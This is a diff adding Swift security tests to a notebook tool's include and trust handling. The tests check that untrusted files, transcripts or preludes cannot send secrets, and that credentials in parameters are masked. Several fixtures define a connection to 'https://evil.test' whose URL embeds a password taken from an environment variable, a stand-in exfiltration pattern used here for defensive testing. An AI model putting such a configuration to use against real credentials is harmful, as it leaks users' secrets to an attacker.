@@ -99,6 +99,96 @@ import Testing
     #expect(bench.replay("a.md") == .differs)
   }
 
+  /// What a file says of where secrets go counts only if somebody vouches for the file.
+  @Test func openTrustsNoInclude() throws {
+    bench.environment["PW"] = "sword/fish"
+    file("base.md", "x = 1")
+    try trust("base.md")
+    try bench.run("include base.md\n:save a.md")
+    file(
+      "base.md",
+      #"connection crm { "baseUrl": "https://evil.test", "requests": { "get": { "url": "/[[pw]]" } } }"#
+        + "\nsecret crm pw from env PW")
+    let other = SessionBench()
+    other.files.texts = bench.files.texts
+    other.environment["PW"] = "sword/fish"
+    try other.run(":open a.md\nconnectrequest crm get")
+    #expect(other.transport.requests.isEmpty)
+    #expect(try other.output(of: ":trust").contains(":trust base.md"))
+    #expect(try other.status(of: "connectrequest crm get") != .done)
+    #expect(other.transport.requests.isEmpty)
+  }
+
+  private static let login =
+    #"connection crm { "baseUrl": "https://h.test", "requests": { "get": { "url": "/[[pw]]" } } }"#
+    + "\nsecret crm pw from env PW"
+
+  @Test func aForeignTranscriptGetsNothingOfAPrelude() throws {
+    bench.environment["PW"] = "sword/fish"
+    file("prelude.md", Self.login)
+    try trust("prelude.md")
+    file(
+      "x.md",
+      #"connection crm { "baseUrl": "https://evil.test", "requests": { "get": { "url": "/[[pw]]" } } }"#
+        + "\nconnectrequest crm get")
+    let status = bench.replay("x.md") {
+      $0.isLive = true
+      $0.prelude = "prelude.md"
+    }
+    #expect(status != .done)
+    #expect(bench.transport.requests.isEmpty)
+  }
+
+  @Test func aForeignPreludeSendsNoSecretOfATrustedTranscript() throws {
+    bench.environment["PW"] = "sword/fish"
+    file(
+      "prelude.md",
+      #"connection crm { "baseUrl": "https://evil.test", "requests": { "get": { "url": "/[[pw]]" } } }"#)
+    file("x.md", "secret crm pw from env PW\nconnectrequest crm get")
+    try trust("x.md")
+    let status = bench.replay("x.md") {
+      $0.isLive = true
+      $0.prelude = "prelude.md"
+    }
+    #expect(status == .secretMissing)
+    #expect(bench.transport.requests.isEmpty)
+    // With both trusted it is sent.
+    try trust("prelude.md")
+    bench.transport.answer(200, "{}")
+    _ = bench.replay("x.md") {
+      $0.isLive = true
+      $0.prelude = "prelude.md"
+    }
+    #expect(bench.transport.requests.count == 1)
+  }
+
+  @Test func aCredentialAmongParametersIsMasked() throws {
+    let value = "hunter2-long"
+    try bench.run(":param password = \"\(value)\"\nx = password\n:expect password = \"\(value)\"\n:save a.md")
+    #expect(bench.files.texts["a.md"]?.contains(value) == false)
+    bench.files.texts["b.md"] = "```patchbay\n:param token = \"\"\n\"my {token}\"\n```\n```output\nmy\n```\n"
+    #expect(
+      bench.replay("b.md") {
+        $0.updates = true
+        _ = $0.parameters.give("token=\(value)")
+      } == .done)
+    #expect(bench.files.texts["b.md"]?.contains(value) == false)
+    #expect(!bench.output.contains(value))
+  }
+
+  @Test func manyIncludesOfManyEnd() throws {
+    let names = (0..<6).map { "f\($0).md" }
+    for (index, name) in names.enumerated() {
+      let next = index + 1 < names.count ? names[index + 1] : nil
+      file(
+        name, next.map { next in (0..<10).map { _ in "include \(next)" }.joined(separator: "\n") } ?? "x = 1")
+      try trust(name)
+    }
+    let cell = try bench.run("include f0.md")
+    #expect(cell.status == .invalid)
+    #expect(bench.session.storedOutput(of: cell).contains("more than 10000 cells would be included"))
+  }
+
   @Test func exchangesOfWhatIsIncludedAreRecordedWithTheIncludingCell() throws {
     bench.environment["PW"] = "sword/fish"
     file(
@@ -124,6 +214,20 @@ import Testing
     #expect(try bench.output(of: "total") == "1")
     try bench.run("include base.md\nx = 2\n:undo")
     #expect(try bench.output(of: "total") == "5")
+  }
+
+  @Test func undoKeepsWhatAnIncludedRequestGave() throws {
+    file(
+      "login.md",
+      #"connection crm { "baseUrl": "https://h.test", "requests": { "get": { "url": "/x" } } }"#
+        + "\nconnectrequest crm get\nn = requestBody.n")
+    try trust("login.md")
+    bench.transport.answer(200, #"{"n":7}"#)
+    try bench.run("include login.md\nx = 1")
+    file("login.md", "n = 8")
+    try bench.run(":undo")
+    #expect(try bench.output(of: "n") == "7")
+    #expect(bench.transport.requests.count == 1)
   }
 
   // MARK: Parameters
